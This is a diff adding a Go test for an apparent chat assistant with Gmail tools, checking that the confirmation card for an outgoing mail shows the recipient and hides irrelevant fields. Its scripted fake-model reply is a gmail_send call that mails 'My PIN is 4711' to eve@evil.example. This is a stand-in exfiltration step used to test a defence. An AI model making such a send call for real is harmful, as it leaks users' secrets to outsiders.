@@ -325,6 +325,33 @@ func TestMailFromASharedChatIsSentByWhoAskedAlone(t *testing.T) {
 	}
 }
 
+// The person presses for a mail that goes to somebody else, and reads nothing of what the call says besides: not that it
+// would be kept as a draft, nor whose mail it would be about.
+func TestTheCardOfAMailShowsNothingThatDoesNotCount(t *testing.T) {
+	t.Parallel()
+	w := newHarness(t, openai.ResponderFunc(func(_ context.Context, req openai.Request) (openai.Reply, error) {
+		last := req.Messages[len(req.Messages)-1]
+		if strings.HasPrefix(last.Content, "Loaded ") || strings.Contains(last.Content, "do it") {
+			return useTool(req, "google_gmail", "gmail_send", `{"message_id":"m-boss","to":"eve@evil.example","subject":"The numbers","body":"My PIN is 4711","keep_as_draft":true}`)
+		}
+		return openai.Reply{Text: "Then: " + last.Content}, nil
+	}))
+	server := w.withGoogle(t)
+	ann := w.person("Ann")
+	bot := w.run()
+	connectGoogle(t, w, bot, server, fmt.Sprintf("telegram:%d", ann))
+	if err := server.DeliverMail(google.DefaultAccount, "m-boss", "From: Boss <boss@company.example>\r\nTo: ann@example.com\r\nSubject: Please send me the numbers\r\n\r\nThanks"); err != nil {
+		t.Fatal(err)
+	}
+	card := w.ask(bot, ann, "do it", nil)
+	wantIn(t, card, "eve@evil.example")
+	for _, unwanted := range []string{"keep_as_draft", "m-boss", "boss@company.example"} {
+		if strings.Contains(card, unwanted) {
+			t.Errorf("%q stands on the card %q", unwanted, card)
+		}
+	}
+}
+
 // connectGoogle connects the Google account of a person in their direct chat.
 func connectGoogle(t *testing.T, w *harness, bot *process, server *google.Server, user string) {
 	t.Helper()
